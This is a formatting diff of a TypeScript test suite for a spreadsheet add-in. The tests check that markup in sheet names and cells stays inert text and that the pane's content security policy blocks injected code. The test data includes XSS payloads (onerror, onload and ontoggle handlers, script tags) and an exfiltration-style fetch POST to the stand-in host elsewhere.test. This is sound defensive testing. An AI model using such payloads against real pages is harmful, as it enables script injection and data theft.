@@ -17,11 +17,17 @@ let html: string;
 beforeAll(async () => {
   [browser, site, code, html] = await Promise.all([launchBrowser(), buildSite(), buildCode(), buildSidebar()]);
 }, 300_000);
-afterAll(async () => { await browser.close(); });
+afterAll(async () => {
+  await browser.close();
+});
 
 const attack = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
 /** Names that Excel allows for sheets: at most 31 characters, none of them a slash. */
-const sheets = { raw: '<img src=x onerror=hacked=1>', compared: '"><svg onload=hacked=1>', counts: '<iframe onload=hacked=1>' };
+const sheets = {
+  raw: '<img src=x onerror=hacked=1>',
+  compared: '"><svg onload=hacked=1>',
+  counts: '<iframe onload=hacked=1>',
+};
 const caption = '<details ontoggle="window.hacked=1" open>';
 
 /** The sheet behind the report; the unit with the lowest marks, which every list of the report names, has the attack for a name. */
@@ -34,7 +40,8 @@ function attackingCells(): ReturnType<typeof rawCells> {
   return cells;
 }
 
-const button = (page: Page, name: string): ReturnType<Page['getByRole']> => page.getByRole('button', { name, exact: true });
+const button = (page: Page, name: string): ReturnType<Page['getByRole']> =>
+  page.getByRole('button', { name, exact: true });
 
 /** Nothing ran, and nothing on the page, shadow trees included, was made out of what a cell or a sheet's name says. */
 async function harmless(page: Page): Promise<void> {
@@ -44,7 +51,10 @@ async function harmless(page: Page): Promise<void> {
 }
 
 async function unfold(page: Page): Promise<void> {
-  await page.evaluate(() => { for (const details of document.querySelectorAll<HTMLDetailsElement>('section:not(.step-4) details')) details.open = true; });
+  await page.evaluate(() => {
+    for (const details of document.querySelectorAll<HTMLDetailsElement>('section:not(.step-4) details'))
+      details.open = true;
+  });
 }
 
 /** From the choice of the sheets to the draft of the report; every place that shows a hostile name shows it as it stands in the cell. */
@@ -72,13 +82,23 @@ async function chosenText(page: Page, label: string): Promise<string> {
 }
 
 test('in Excel: a unit, a column and sheets whose names are markup stay text from the choice to the draft of the report', async () => {
-  const workbook = createWorkbook({ [sheets.raw]: attackingCells(), [sheets.compared]: rawCells('04', false), [sheets.counts]: countedCells({ [attack]: 1002, 'UBND xã Phú An': 1200 }) });
-  const { page, complaints } = await openBuiltPane(browser, site, createExcelHost(workbook, 14), { locale: 'vi-VN', excelApi: 14, width: 320 });
+  const workbook = createWorkbook({
+    [sheets.raw]: attackingCells(),
+    [sheets.compared]: rawCells('04', false),
+    [sheets.counts]: countedCells({ [attack]: 1002, 'UBND xã Phú An': 1200 }),
+  });
+  const { page, complaints } = await openBuiltPane(browser, site, createExcelHost(workbook, 14), {
+    locale: 'vi-VN',
+    excelApi: 14,
+    width: 320,
+  });
   await page.locator('.grades').waitFor();
   await wholeJob(page);
   expect(await chosenText(page, 'Trang số liệu thô')).toContain(sheets.raw);
   expect(await chosenText(page, 'So sánh với')).toContain(sheets.compared);
-  const painted = Array.from({ length: 30 }, (_, row) => cellOf(sheetNamed(workbook, 'Phụ lục 1'), row, 1)).filter(({ value }) => value === attack);
+  const painted = Array.from({ length: 30 }, (_, row) => cellOf(sheetNamed(workbook, 'Phụ lục 1'), row, 1)).filter(
+    ({ value }) => value === attack,
+  );
   expect(painted.map(({ formula }) => formula)).toEqual([null]);
 
   await page.getByLabel('Trang số liệu thô').selectOption(`sheet:${sheets.counts}`);
@@ -91,12 +111,19 @@ test('in Excel: a unit, a column and sheets whose names are markup stay text fro
 });
 
 test('in Excel: the page’s content policy would stop markup that got through: no inline script, no handler, no way out', async () => {
-  const { page, complaints } = await openBuiltPane(browser, site, createExcelHost(createWorkbook({ 'Tuần 01': rawCells() }), 14), { locale: 'vi-VN', excelApi: 14 });
+  const { page, complaints } = await openBuiltPane(
+    browser,
+    site,
+    createExcelHost(createWorkbook({ 'Tuần 01': rawCells() }), 14),
+    { locale: 'vi-VN', excelApi: 14 },
+  );
   await page.locator('.grades').waitFor();
   expect(complaints).toEqual([]);
   const stopped = await page.evaluate(async () => {
     const seen: string[] = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => seen.push(`${effectiveDirective} ${blockedURI.replace(/(?<=test)\/.*$/u, '')}`));
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      seen.push(`${effectiveDirective} ${blockedURI.replace(/(?<=test)\/.*$/u, '')}`),
+    );
     const script = document.createElement('script');
     script.textContent = 'window.hacked = 1';
     const handled = document.createElement('p');
@@ -107,12 +134,21 @@ test('in Excel: the page’s content policy would stop markup that got through: 
     picture.src = 'https://elsewhere.test/?what=was-read';
     document.body.append(script, handled, frame, picture);
     handled.click();
-    const sent = await fetch('https://elsewhere.test/', { method: 'POST', body: 'what was read' }).then(() => true, () => false);
+    const sent = await fetch('https://elsewhere.test/', { method: 'POST', body: 'what was read' }).then(
+      () => true,
+      () => false,
+    );
     for (let turn = 0; turn < 100 && seen.length < 5; turn++) await new Promise((done) => requestAnimationFrame(done));
     return { seen: seen.sort(), sent, hacked: 'hacked' in window };
   });
   expect(stopped).toEqual({
-    seen: ['connect-src https://elsewhere.test', 'frame-src https://elsewhere.test', 'img-src https://elsewhere.test', 'script-src-attr inline', 'script-src-elem inline'],
+    seen: [
+      'connect-src https://elsewhere.test',
+      'frame-src https://elsewhere.test',
+      'img-src https://elsewhere.test',
+      'script-src-attr inline',
+      'script-src-elem inline',
+    ],
     sent: false,
     hacked: false,
   });
@@ -121,7 +157,13 @@ test('in Excel: the page’s content policy would stop markup that got through: 
 });
 
 test('in Google Sheets: the same names stay text in the sidebar, which has no policy of ours to lean on', async () => {
-  const grid = (sheet: string, cells: ReturnType<typeof rawCells>) => ({ sheet, cells, merges: [], percentCells: new Set<string>(), hiddenRows: [] });
+  const grid = (sheet: string, cells: ReturnType<typeof rawCells>) => ({
+    sheet,
+    cells,
+    merges: [],
+    percentCells: new Set<string>(),
+    hiddenRows: [],
+  });
   const workbook = workbookOf(grid(sheets.raw, attackingCells()));
   addSheet(workbook, grid(sheets.compared, rawCells('04', false)));
   const page = await openSidebar(browser, { code, html, workbook, refusal: null });
